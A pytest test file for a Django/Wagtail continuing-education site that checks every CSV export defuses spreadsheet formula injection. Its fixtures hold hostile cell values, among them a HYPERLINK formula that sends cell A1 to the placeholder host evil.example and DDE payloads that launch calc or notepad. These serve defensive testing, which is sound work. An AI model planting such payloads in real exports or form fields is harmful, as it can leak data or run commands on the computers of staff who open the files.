"""Spreadsheet formula injection: no CSV cell we write starts a formula.

The admin exports are found from the URL patterns (every Wagtail listing or
report of ours with a ``list_export``), so a new export without
``SafeSpreadsheetExportMixin`` fails here without anyone listing it.
"""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal

from django.apps import apps
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from wagtail.admin.views.mixins import SpreadsheetExportMixin

import openpyxl
import pytest

from accounts.models import ClinicianProfile
from core.spreadsheets import SafeSpreadsheetExportMixin, csv_cell_safe, csv_writer
from courses.models import Certificate, CourseEvaluation, Enrollment
from payments.models import Order, OrderStatus
from tests.courses.factories import CoursePageFactory, ModulePageFactory
from tests.lessons.quiz_factories import QuizPageFactory, single_choice

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
HOSTILE_LICENSE = "+cmd|' /C calc'!A0"
HOSTILE_STATE = "@SUM(1+1)"
# The state column holds two characters (a form only offers US states; the
# column is what a forged write could reach): still a formula trigger.
HOSTILE_STATE_CODE = "@S"
HOSTILE_EMAIL = "=2+5+cmd-x@example.com"
HOSTILE_COMMENT = "-2+3+cmd|' /C notepad'!'A1'"
HOSTILE_COURSE = "\t=1+1"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

OUR_APPS = ("accounts", "core", "courses", "lessons", "payments")


def _is_plain_number(cell: str) -> bool:
    try:
        Decimal(cell)
    except ArithmeticError:
        return False
    return cell.lstrip("-").replace(".", "", 1).isdigit()


def _dangerous(cell: str) -> bool:
    return cell.lstrip(" ").startswith(TRIGGERS) and not _is_plain_number(cell)


# The function ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "  =1+1", "-", "=", "-cmd"],
)
def test_a_cell_that_would_start_a_formula_is_prefixed_with_a_quote(value):
    assert csv_cell_safe(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["Maria Gómez", "LCSW-12345", "", "a=b", "2025-03-01", "x@example.com"]
)
def test_ordinary_text_is_left_alone(value):
    assert csv_cell_safe(value) == value


@pytest.mark.parametrize("value", ["-5", "-12.50", "-0.5"])
def test_a_plain_negative_number_stays_a_number(value):
    assert csv_cell_safe(value) == value


@pytest.mark.parametrize("value", [None, 5, -5, Decimal("-6.00"), 1.5, True])
def test_values_our_code_computes_pass_unchanged(value):
    assert csv_cell_safe(value) == value


def test_the_hand_written_csv_writer_quotes_and_neutralises_every_cell():
    output = io.StringIO()

    csv_writer(output).writerow([HOSTILE_NAME, "plain", 5])

    assert (
        output.getvalue()
        == '"\'=HYPERLINK(""http://evil.example/?""&A1,""Open"")",'
        + ('"plain","5"\r\n')
    )


# Every export, found from the URL patterns ------------------------------------------


def _walk(patterns, prefix=""):
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            yield from _walk(pattern.url_patterns, prefix + str(pattern.pattern))
        elif isinstance(pattern, URLPattern):
            yield prefix + str(pattern.pattern), pattern


def _export_views() -> list[tuple[str, URLPattern, type]]:
    """Every URL whose view is a Wagtail spreadsheet export with columns to export."""
    found = []
    for route, pattern in _walk(get_resolver().url_patterns):
        view_class = getattr(pattern.callback, "view_class", None)
        if view_class is None or not issubclass(view_class, SpreadsheetExportMixin):
            continue
        initkwargs = getattr(pattern.callback, "view_initkwargs", {})
        if initkwargs.get("list_export") or view_class.list_export:
            found.append((route, pattern, view_class))
    return found


def _ours(view_class: type) -> bool:
    return view_class.__module__.split(".")[0] in OUR_APPS


def _our_export_urls() -> list[str]:
    """The URLs of our exports that take no arguments (every listing and report)."""
    return sorted(
        "/" + route.lstrip("^").rstrip("$")
        for route, _pattern, view_class in _export_views()
        if _ours(view_class) and "<" not in route
    )


def test_every_export_of_ours_is_found():
    """The walk sees the exports we know, so the checks below are not vacuous."""
    urls = _our_export_urls()

    for expected in (
        "/admin/reports/ce-roster/",
        "/admin/reports/evaluation-summary/",
        "/admin/orders/",
        "/admin/quiz_attempts/",
        "/admin/ce_evaluations/",
        "/admin/ce_certificates/",
    ):
        assert any(url.endswith(expected) for url in urls), (expected, urls)


def test_every_export_of_ours_neutralises_cells_through_the_one_mixin():
    missing = [
        f"{route} ({view_class.__module__}.{view_class.__qualname__})"
        for route, _pattern, view_class in _export_views()
        if _ours(view_class) and not issubclass(view_class, SafeSpreadsheetExportMixin)
    ]

    assert missing == []


# Wagtail's own exports: what they print is written by editors (page titles,
# redirects, workflow names), except Site history, whose "Name" column is an
# object's label, for a learner her email address; core.spreadsheets gives
# Wagtail's export base class our CSV methods (tested below). A new one shows
# up here to be judged.
WAGTAIL_EXPORTS = {
    "wagtail.admin.views.reports.aging_pages.AgingPagesView",
    "wagtail.admin.views.reports.audit_logging.LogEntriesView",
    "wagtail.admin.views.reports.locked_pages.LockedPagesView",
    "wagtail.admin.views.reports.workflows.WorkflowTasksView",
    "wagtail.admin.views.reports.workflows.WorkflowView",
    "wagtail.contrib.redirects.views.IndexView",
}


def test_wagtails_own_exports_are_the_ones_judged():
    found = {
        f"{view_class.__module__}.{view_class.__qualname__}"
        for _route, _pattern, view_class in _export_views()
        if not _ours(view_class)
    }

    assert found == WAGTAIL_EXPORTS


def test_no_export_of_ours_takes_arguments_the_sweep_below_cannot_fill():
    with_arguments = [
        route
        for route, _pattern, view_class in _export_views()
        if _ours(view_class) and "<" in route
    ]

    assert with_arguments == []


@pytest.fixture
def hostile_world(course, enrolled_learner):
    """A learner whose free-text fields are all formulas, one record of each kind."""
    user = enrolled_learner
    user.email = HOSTILE_EMAIL
    user.first_name, user.last_name = HOSTILE_NAME, HOSTILE_STATE
    user.save()
    ClinicianProfile.objects.create(
        user=user,
        name_on_certificate=HOSTILE_NAME,
        license_type=HOSTILE_LICENSE,
        license_number=HOSTILE_LICENSE,
        license_state=HOSTILE_STATE_CODE,
    )
    enrollment = Enrollment.objects.get(user=user, course=course)
    enrollment.completed_at = datetime.datetime(2025, 3, 1, 12, tzinfo=datetime.UTC)
    enrollment.save()
    Certificate.objects.create(
        enrollment=enrollment,
        serial="PRC-AAAA-BBBB",
        learner_name=HOSTILE_NAME,
        license_type=HOSTILE_LICENSE,
        license_number=HOSTILE_LICENSE,
        license_state=HOSTILE_STATE_CODE,
        course_title=HOSTILE_COURSE,
        completed_on=datetime.date(2025, 3, 1),
        ce_hours=Decimal("6.00"),
        provider_name="Practicum Academy",
        post_test_score=90,
    )
    CourseEvaluation.objects.create(
        enrollment=enrollment,
        objective_ratings={HOSTILE_COMMENT: 5},
        relevance=5,
        content_quality=4,
        instructor_effectiveness=5,
        hours_spent=Decimal("6.0"),
        comments=HOSTILE_COMMENT,
    )
    # A quiz whose question is a formula (the item analysis prints prompts).
    quiz = QuizPageFactory(
        parent=ModulePageFactory(parent=course),
        questions=[single_choice(HOSTILE_COMMENT, [("Yes", True), ("No", False)])],
    )
    apps.get_model("lessons", "QuizAttempt").objects.create(
        user=user,
        quiz=quiz,
        course=course,
        quiz_title=HOSTILE_COMMENT,
        number=1,
        seed=1,
        snapshot={},
        pass_mark=80,
        is_final_assessment=True,
        question_count=10,
        correct_count=9,
        score_percent=90,
        passed=True,
        submitted_at=datetime.datetime(2025, 3, 1, tzinfo=datetime.UTC),
    )
    Order.objects.create(
        user=user,
        course=course,
        amount=24900,
        currency="USD",
        amount_paid=24900,
        status=OrderStatus.PAID,
        checkout_session_id="cs_test_hostile",
        payment_intent_id="-pi_1+1",
        paid_at=datetime.datetime(2025, 3, 1, tzinfo=datetime.UTC),
    )
    # A course whose title is a formula, with revenue (the revenue report).
    Order.objects.create(
        user=user,
        course=CoursePageFactory(parent=course.get_parent(), title=HOSTILE_COURSE),
        amount=14900,
        currency="USD",
        amount_paid=14900,
        status=OrderStatus.PAID,
        paid_at=datetime.datetime(2025, 3, 2, tzinfo=datetime.UTC),
    )
    return user


def _cells(response) -> list[str]:
    body = (
        b"".join(response.streaming_content) if response.streaming else response.content
    ).decode("utf-8")
    return [cell for row in csv.reader(io.StringIO(body)) for cell in row]


def test_every_admin_csv_export_neutralises_hostile_cells(
    client, hostile_world, django_user_model
):
    admin = django_user_model.objects.create_superuser(
        email="admin@example.com", password="x"
    )
    client.force_login(admin)
    reached = {}

    for url in _our_export_urls():
        response = client.get(url, {"export": "csv"})
        assert response.status_code == 200, url
        cells = _cells(response)
        assert [cell for cell in cells if _dangerous(cell)] == [], url
        reached[url] = any(cell.startswith("'") for cell in cells)

    assert all(reached.values()), reached  # hostile text reached every export


def test_wagtails_site_history_export_neutralises_a_hostile_email(
    client, hostile_world, django_user_model
):
    from wagtail.log_actions import log

    admin = django_user_model.objects.create_superuser(
        email="admin@example.com", password="x"
    )
    log(instance=hostile_world, action="wagtail.edit", user=admin)
    client.force_login(admin)

    cells = _cells(client.get("/admin/reports/site-history/", {"export": "csv"}))

    assert "'" + HOSTILE_EMAIL in cells
    assert [cell for cell in cells if _dangerous(cell)] == []


def test_the_transcript_csv_neutralises_hostile_cells(client, hostile_world):
    client.force_login(hostile_world)

    cells = _cells(client.get(reverse("transcript_csv")))

    assert "'" + HOSTILE_COURSE in cells
    assert [cell for cell in cells if _dangerous(cell)] == []


def test_xlsx_exports_keep_a_formula_as_a_string_cell(client, hostile_world):
    """XLSX is already safe (Wagtail writes strings as strings); keep it so."""
    client.force_login(
        hostile_world.__class__.objects.create_superuser(
            email="admin@example.com", password="x"
        )
    )

    response = client.get("/admin/ce_certificates/", {"export": "xlsx"})

    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    cells = [cell for row in sheet.active.iter_rows() for cell in row]
    hostile = [cell for cell in cells if cell.value == HOSTILE_NAME]
    assert hostile
    assert all(cell.data_type == "s" for cell in hostile)
